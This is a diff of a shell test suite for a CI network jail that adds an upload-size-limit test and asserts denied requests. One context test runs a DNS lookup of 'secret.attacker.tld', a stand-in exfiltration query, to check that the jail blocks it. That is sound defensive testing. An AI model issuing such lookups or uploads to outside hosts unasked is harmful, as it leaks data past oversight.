@@ -19,6 +19,15 @@ t_match "$out" '^404$' # of the server
 t_count 1 "$err" ' cijail: deny - GET https://registry\.example/other$'
 t_match "$err" ' cijail: deny - CONNECT files\.example:443$'
 
+t_case '--limit-upload holds for a container'
+head -c 100000 /dev/zero >root/tmp/body
+jailed --endpoint https://origin.example/ --limit-upload 50K -- curl -sS -o /dev/null -w '%{http_code}' --data-binary @/tmp/body \
+    https://origin.example/
+small=$out
+jailed --endpoint https://origin.example/ --limit-upload 500K -- curl -sS -o /dev/null -w '%{http_code}' --data-binary @/tmp/body \
+    https://origin.example/
+t_true test "$small" != "$out"
+
 t_case 'names: REFUSED if not allowed, and no question leaves'
 wire_start
 jailed --endpoint registry.example -- sh -c 'dig +short registry.example; dig other.example; dig secret.attacker.tld'
